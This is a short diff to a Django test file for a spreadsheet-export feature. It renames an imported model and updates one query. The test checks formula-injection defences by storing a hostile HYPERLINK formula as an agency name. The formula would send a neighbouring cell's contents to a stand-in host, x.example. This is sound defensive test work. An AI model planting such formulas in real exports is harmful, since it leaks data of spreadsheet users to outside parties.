@@ -13,8 +13,7 @@ from chiso.cli.main import main
 from chiso.core.framework import Framework, builtin
 from chiso.core.xlsxsafe import defuse, is_risky
 from chiso.web.indexdata.actions import store_framework
-from chiso.web.indexdata.models import Assignment
-from chiso.web.people.models import Agency
+from chiso.web.people.models import Agency, Duty
 
 HOSTILE = '=HYPERLINK("http://x.example/?"&D2,"Chi tiết")'
 
@@ -50,7 +49,7 @@ def test_defuse_keeps_numbers_and_plain_text():
 
 @pytest.mark.django_db
 def test_indicators_export_agency_named_like_a_formula(coordinator):
-    assignment = Assignment.objects.filter(province__code="14", role="lead").select_related("agency").first()
+    assignment = Duty.objects.filter(province__code="14", role="lead").select_related("agency").first()
     Agency.objects.filter(pk=assignment.agency_id).update(name=HOSTILE, short_name=HOSTILE)
     r = coordinator.get("/p/14/indicators.xlsx")
     assert r.status_code == 200
